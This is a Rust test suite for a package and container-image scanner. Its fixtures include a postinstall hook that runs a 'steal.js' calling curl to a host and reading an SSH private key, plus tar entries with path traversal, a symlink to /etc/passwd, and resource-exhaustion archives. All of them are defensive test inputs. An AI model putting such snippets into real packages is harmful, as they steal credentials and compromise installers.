//! `portcullis server scan`: strangers' packages, through the command line.

use std::fs;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::Value;

use crate::gate::{Gate, Said};

fn scan(package: &Path, more: &[&str]) -> Said {
    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
    command.args(["server", "scan"]).arg(package).args(more).stdin(Stdio::null());
    let output = command.output().unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    Said { ok: output.status.success(), out: text(output.stdout), err: text(output.stderr) }
}

/// A header of a tar, as nobody checks it.
fn header(name: &str, kind: u8, link: &str, size: u64) -> Vec<u8> {
    let mut header = vec![0_u8; 512];
    let mut put = |at: usize, text: &str| header[at..at + text.len()].copy_from_slice(text.as_bytes());
    put(0, name);
    put(100, "0000644\0");
    put(124, &format!("{size:011o}\0"));
    put(136, "00000000000\0");
    put(148, "        ");
    put(157, link);
    put(257, "ustar\x0000");
    header[156] = kind;
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header
}

/// A `.tgz` of these entries: name, kind, link, content.
pub(crate) fn tgz(folder: &Path, name: &str, entries: &[(&str, u8, &str, &[u8])]) -> PathBuf {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    for (path, kind, link, content) in entries {
        encoder.write_all(&header(path, *kind, link, u64::try_from(content.len()).unwrap())).unwrap();
        encoder.write_all(content).unwrap();
        encoder.write_all(&vec![0; content.len().next_multiple_of(512) - content.len()]).unwrap();
    }
    encoder.write_all(&[0; 1024]).unwrap();
    let path = folder.join(name);
    fs::write(&path, encoder.finish().unwrap()).unwrap();
    path
}

/// A zip of these files, unpacked as they are.
pub(crate) fn zip(folder: &Path, name: &str, files: &[(&str, &[u8])]) -> PathBuf {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    for (path, content) in files {
        let at = u32::try_from(bytes.len()).unwrap().to_le_bytes();
        let (mut sum, length) = (flate2::Crc::new(), u32::try_from(content.len()).unwrap().to_le_bytes());
        sum.update(content);
        let named = [u16::try_from(path.len()).unwrap().to_le_bytes(), [0; 2]].concat();
        let middle = [&[0; 8][..], &sum.sum().to_le_bytes(), &length, &length, &named].concat();
        bytes.extend([b"PK\x03\x04\x14\x00".as_slice(), &middle, path.as_bytes(), content].concat());
        let tail = [&[0; 6][..], &0o644_u32.to_le_bytes(), &at, path.as_bytes()].concat();
        directory.extend([b"PK\x01\x02\x14\x03\x14\x00".as_slice(), &middle, &tail].concat());
    }
    let number = u16::try_from(files.len()).unwrap().to_le_bytes();
    let [length, at] = [directory.len(), bytes.len()].map(|size| u32::try_from(size).unwrap().to_le_bytes());
    bytes.extend(&directory);
    bytes.extend([b"PK\x05\x06\0\0\0\0".as_slice(), &number, &number, &length, &at, &[0; 2]].concat());
    let path = folder.join(name);
    fs::write(&path, bytes).unwrap();
    path
}

const PACKAGE: &[u8] =
    br#"{ "name": "acme-tickets", "version": "1.0.0", "license": "MIT", "repository": "github:acme/x",
    "scripts": { "postinstall": "node steal.js" } }"#;
const STEALS: &[u8] = b"const { execSync: go } = require('child_process');\n// eval(nothing)\ngo(`curl ${host}`);\nread(home + '/.ssh/id_ed25519');\n";

#[tokio::test]
async fn a_package_s_deeds_are_told_by_file_and_line_and_kept_for_who_approves() {
    let gate = Gate::start().await;
    let folder = tempfile::tempdir().unwrap();
    let package = tgz(
        folder.path(),
        "x.tgz",
        &[("package/package.json", b'0', "", PACKAGE), ("package/steal.js", b'0', "", STEALS)],
    );
    let said = scan(&package, &[]);
    assert!(said.ok, "{}", said.err);
    for part in [
        "acme-tickets 1.0.0",
        "runs something when it is installed (postinstall)",
        "package/steal.js:3  child_process.execSync(`curl ${host}`)",
        "package/steal.js:4",
        "score 58",
        "nothing of it was run",
    ] {
        assert!(said.out.contains(part), "{part}\n{}", said.out);
    }
    assert!(!said.out.contains("evaluates") && !folder.path().join("package").exists());
    let unpacked = folder.path().join("unpacked");
    fs::create_dir_all(&unpacked).unwrap();
    fs::write(unpacked.join("package.json"), PACKAGE).unwrap();
    fs::write(unpacked.join("steal.js"), STEALS).unwrap();
    assert!(scan(&unpacked, &[]).out.contains("steal.js:3"), "a folder is read like an archive");

    let path = package.to_str().unwrap();
    gate.must(&["server", "scan", path, "--server", "desk"]).await;
    let dossier: Value = serde_json::from_str(&gate.must(&["server", "show", "desk", "--json"]).await).unwrap();
    assert_eq!(dossier["package"]["examination"]["findings"][0]["rule"], "reads-keys");
    assert_eq!(dossier["package"]["examination"]["sha256"].as_str().unwrap().len(), 64);
    let shown = gate.must(&["server", "show", "desk"]).await;
    assert!(shown.contains("package/steal.js:3"), "{shown}");
    gate.until("/receipts?kind=changed&text=server.examine", |page| page["receipts"][0].is_object()).await;
    let said = gate.cli(&["server", "scan", path, "--server", "nobody"]).await;
    assert!(!said.ok && said.err.contains("nobody"), "{said:?}");
}

#[test]
fn packages_that_mean_ill_to_whoever_looks_do_no_harm() {
    let folder = tempfile::tempdir().unwrap();
    let outside = folder.path().join("evil");
    let traversal =
        tgz(folder.path(), "a.tgz", &[("../evil", b'0', "", b"x"), ("package/package.json", b'0', "", PACKAGE)]);
    let said = scan(&traversal, &[]);
    assert!(said.ok && said.out.contains("written outside its folder"), "{said:?}");
    let links =
        [("package/a", b'2', "/etc/passwd", b"".as_slice()), ("package/a/b", b'0', "", b"x"), ("c", b'3', "", b"")];
    let said = scan(&tgz(folder.path(), "b.tgz", &links), &[]);
    assert!(said.ok && said.out.contains("has a link") && said.out.contains("has a device"), "{said:?}");
    assert!(!outside.exists(), "nothing was written");

    // A gibibyte that is said to be there, and is not.
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(&header("package/a", b'0', "", 1 << 30)).unwrap();
    let short = folder.path().join("c.tgz");
    fs::write(&short, encoder.finish().unwrap()).unwrap();
    let many: Vec<_> = (0..60_000).map(|_| ("a", b'5', "", b"".as_slice())).collect();
    let many = tgz(folder.path(), "d.tgz", &many);
    let noise = folder.path().join("e.whl");
    fs::write(&noise, [b"PK\x03\x04".as_slice(), &[0xff; 4096]].concat()).unwrap();
    for (package, why) in [(&short, "damaged or ends early"), (&many, "more than 50000"), (&noise, "malformed")] {
        let said = scan(package, &[]);
        assert!(!said.ok && said.err.contains(why) && said.err.contains("do not install it"), "{why}: {said:?}");
    }
    // A name that is one letter from one that many install.
    let typo = br#"{ "name": "@modelcontextprotocol/server-filesytem", "version": "1.0.0" }"#;
    let said = scan(&tgz(folder.path(), "g.tgz", &[("package/package.json", b'0', "", typo)]), &[]);
    assert!(said.ok && said.out.contains("server-filesystem"), "{said:?}");
    let deep = format!("{{ \"name\": {} }}", "[".repeat(100_000));
    let source = "(".repeat(100_000);
    let odd = [("package/package.json", b'0', "", deep.as_bytes()), ("package/a.js", b'0', "", source.as_bytes())];
    let said = scan(&tgz(folder.path(), "f.tgz", &odd), &[]);
    assert!(said.ok && said.out.contains("cannot be read"), "{said:?}");
}

#[test]
fn known_weaknesses_of_what_runs_are_told_without_a_network() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name);
    let advisory = |id: &str, name: &str, fixed: &str| {
        let events = if fixed.is_empty() { String::new() } else { format!(",{{\"fixed\":\"{fixed}\"}}") };
        format!(
            "{{\"id\":\"{id}\",\"summary\":\"it pollutes\",\"database_specific\":{{\"severity\":\"HIGH\"}},\"affected\":[{{\
             \"package\":{{\"ecosystem\":\"npm\",\"name\":\"{name}\"}},\"ranges\":[{{\"type\":\"SEMVER\",\"events\":[\
             {{\"introduced\":\"0\"}}{events}]}}]}}]}}"
        )
    };
    fs::create_dir(path("osv")).unwrap();
    fs::write(path("osv/a.json"), advisory("GHSA-weak", "lodash", "4.17.21")).unwrap();
    fs::write(path("osv/b.json"), advisory("MAL-2026-1", "evil-helper", "")).unwrap();
    let import = |from: &str| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
        command.args(["advisories", "import"]).arg(path(from)).arg("--to").arg(path("index")).stdin(Stdio::null());
        let output = command.output().unwrap();
        let text = |bytes| String::from_utf8(bytes).unwrap();
        Said { ok: output.status.success(), out: text(output.stdout), err: text(output.stderr) }
    };
    let said = import("osv");
    assert!(said.ok && said.out.contains("imported 2 advisories"), "{said:?}");
    fs::write(path("none.json"), "{").unwrap();
    let said = import("none.json");
    let words = said.err.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(!said.ok && words.contains("no advisory in the form of OSV"), "{said:?}");

    let manifest = br#"{ "name": "x", "version": "1.0.0", "license": "MIT", "repository": "github:acme/x",
        "dependencies": { "lodash": "^4.17.0", "evil-helper": "*" } }"#;
    let package = tgz(folder.path(), "x.tgz", &[("package/package.json", b'0', "", manifest)]);
    let (index, bill, lock) = (path("index"), path("sbom.json"), path("package-lock.json"));
    fs::write(&lock, r#"{ "packages": { "node_modules/lodash": { "version": "4.17.20" } } }"#).unwrap();
    let [index, bill, lock] = [&index, &bill, &lock].map(|path| path.to_str().unwrap());
    let said = scan(&package, &["--advisories", index, "--sbom", bill, "--lock", lock]);
    assert!(said.ok, "{said:?}");
    let words = said.out.split_whitespace().collect::<Vec<_>>().join(" ");
    for part in ["compared with 2 advisories", "2 apply", "known to be malicious", "MAL-2026-1", "mended in 4.17.21"] {
        assert!(words.contains(part), "{part}\n{}", said.out);
    }
    let bill: Value = serde_json::from_str(&fs::read_to_string(bill).unwrap()).unwrap();
    assert_eq!((&bill["specVersion"], bill["vulnerabilities"].as_array().unwrap().len()), (&"1.6".into(), 2));
    // Without the lock file nobody knows which version of the one is installed; the other has no good one.
    let words = scan(&package, &["--advisories", index]).out;
    assert!(words.contains("MAL-2026-1") && !words.contains("GHSA-weak"), "{words}");
}

/// A tar of files, as nobody packs it.
fn tar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (path, content) in files {
        bytes.extend(header(path, b'0', "", u64::try_from(content.len()).unwrap()));
        bytes.extend_from_slice(content);
        bytes.resize(bytes.len().next_multiple_of(512), 0);
    }
    bytes.resize(bytes.len() + 1024, 0);
    bytes
}

const STATUS: &[u8] = b"Package: libssl3\nStatus: install ok installed\nSource: openssl\nVersion: 3.0.11-1~deb12u2\n";

/// A container image of one layer, as `docker save` writes it.
fn image(folder: &Path, name: &str, layer: &[u8], vouched: &[u8]) -> PathBuf {
    let digest = |bytes: &[u8]| model::Digest::of(bytes).to_string();
    let config = serde_json::json!({ "os": "linux", "architecture": "amd64", "rootfs": { "diff_ids": [digest(vouched)] },
        "config": { "Entrypoint": ["node", "/app/index.js"] } });
    let config = config.to_string().into_bytes();
    let file = digest(&config).replace("sha256:", "") + ".json";
    let saved = serde_json::json!([{ "Config": file, "RepoTags": ["acme/tickets:1.2.0"], "Layers": ["a/layer.tar"] }]);
    let path = folder.join(name);
    fs::write(&path, tar(&[("a/layer.tar", layer), (&file, &config), ("manifest.json", saved.to_string().as_bytes())]))
        .unwrap();
    path
}

#[tokio::test]
async fn a_container_image_is_taken_apart_and_compared_and_kept_for_who_approves() {
    let gate = Gate::start().await;
    let folder = tempfile::tempdir().unwrap();
    let layer = tar(&[
        ("etc/os-release", b"ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12\"\n"),
        ("var/lib/dpkg/status", STATUS),
        ("app/node_modules/left/package.json", br#"{ "name": "left", "version": "1.0.0" }"#),
        ("app/steal.js", STEALS),
    ]);
    let package = image(folder.path(), "tickets.tar", &layer, &layer);
    let advisory = folder.path().join("a.json");
    fs::write(
        &advisory,
        r#"{ "id": "DSA-1", "affected": [{ "package": { "ecosystem": "Debian:12", "name": "openssl" },
        "ranges": [{ "type": "ECOSYSTEM", "events": [{ "introduced": "0" }, { "fixed": "3.0.11-1~deb12u10" }] }] }] }"#,
    )
    .unwrap();
    let (index, bill) = (folder.path().join("index"), folder.path().join("bill.json"));
    let mut import = Command::new(env!("CARGO_BIN_EXE_portcullis"));
    import.args(["advisories", "import"]).arg(&advisory).arg("--to").arg(&index).stdin(Stdio::null());
    assert!(import.output().unwrap().status.success());
    let [index, bill, path] = [&index, &bill, &package].map(|path| path.to_str().unwrap());
    let said = scan(&package, &["--advisories", index, "--sbom", bill]);
    assert!(said.ok, "{said:?}");
    let words = said.out.split_whitespace().collect::<Vec<_>>().join(" ");
    for part in [
        "acme/tickets 1.2.0 container image, 4 files",
        "for linux/amd64",
        "system Debian GNU/Linux 12",
        "starts node /app/index.js, as root",
        "DSA-1",
        "mended in 3.0.11-1~deb12u10",
        "app/steal.js:4",
    ] {
        assert!(words.contains(part), "{part}\n{}", said.out);
    }
    let bill: Value = serde_json::from_str(&fs::read_to_string(bill).unwrap()).unwrap();
    let purls: Vec<_> =
        bill["components"].as_array().unwrap().iter().map(|one| one["purl"].as_str().unwrap()).collect();
    assert_eq!(purls, ["pkg:npm/left@1.0.0", "pkg:deb/debian/libssl3@3.0.11-1~deb12u2?distro=debian-12"]);

    gate.must(&["server", "scan", path, "--server", "desk"]).await;
    let dossier: Value = serde_json::from_str(&gate.must(&["server", "show", "desk", "--json"]).await).unwrap();
    let kept = &dossier["package"]["examination"];
    assert_eq!(
        (&kept["metadata"]["form"], &kept["components"][1]["ecosystem"]),
        (&"image".into(), &"Debian:12".into())
    );
    assert!(kept["image"]["id"].as_str().unwrap().starts_with("sha256:"));

    // Another layer in the place of the one that the configuration vouches for, and one that is no end of zeros.
    let other = image(folder.path(), "b.tar", &tar(&[("x", b"y")]), &layer);
    let noise = folder.path().join("c.tar");
    fs::write(&noise, [&header("a", b'0', "", 1 << 33)[..], &[0; 4096]].concat()).unwrap();
    // A configuration under the digest of another.
    let renamed = folder.path().join("d.tar");
    let config = serde_json::json!({ "os": "linux", "architecture": "amd64",
        "rootfs": { "diff_ids": [model::Digest::of(&layer).to_string()] }, "config": {} })
    .to_string();
    let file = "0".repeat(64) + ".json";
    let saved = serde_json::json!([{ "Config": file, "RepoTags": null, "Layers": ["a/layer.tar"] }]).to_string();
    let parts: [(&str, &[u8]); 3] =
        [("a/layer.tar", &layer), (&file, config.as_bytes()), ("manifest.json", saved.as_bytes())];
    fs::write(&renamed, tar(&parts)).unwrap();
    for (package, why) in [
        (&other, "not those of its configuration"),
        (&noise, "damaged or ends early"),
        (&renamed, "not the digest that it is named by"),
    ] {
        let said = scan(package, &[]);
        let words = said.err.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(!said.ok && words.contains(why) && words.contains("do not install it"), "{why}: {said:?}");
    }
}
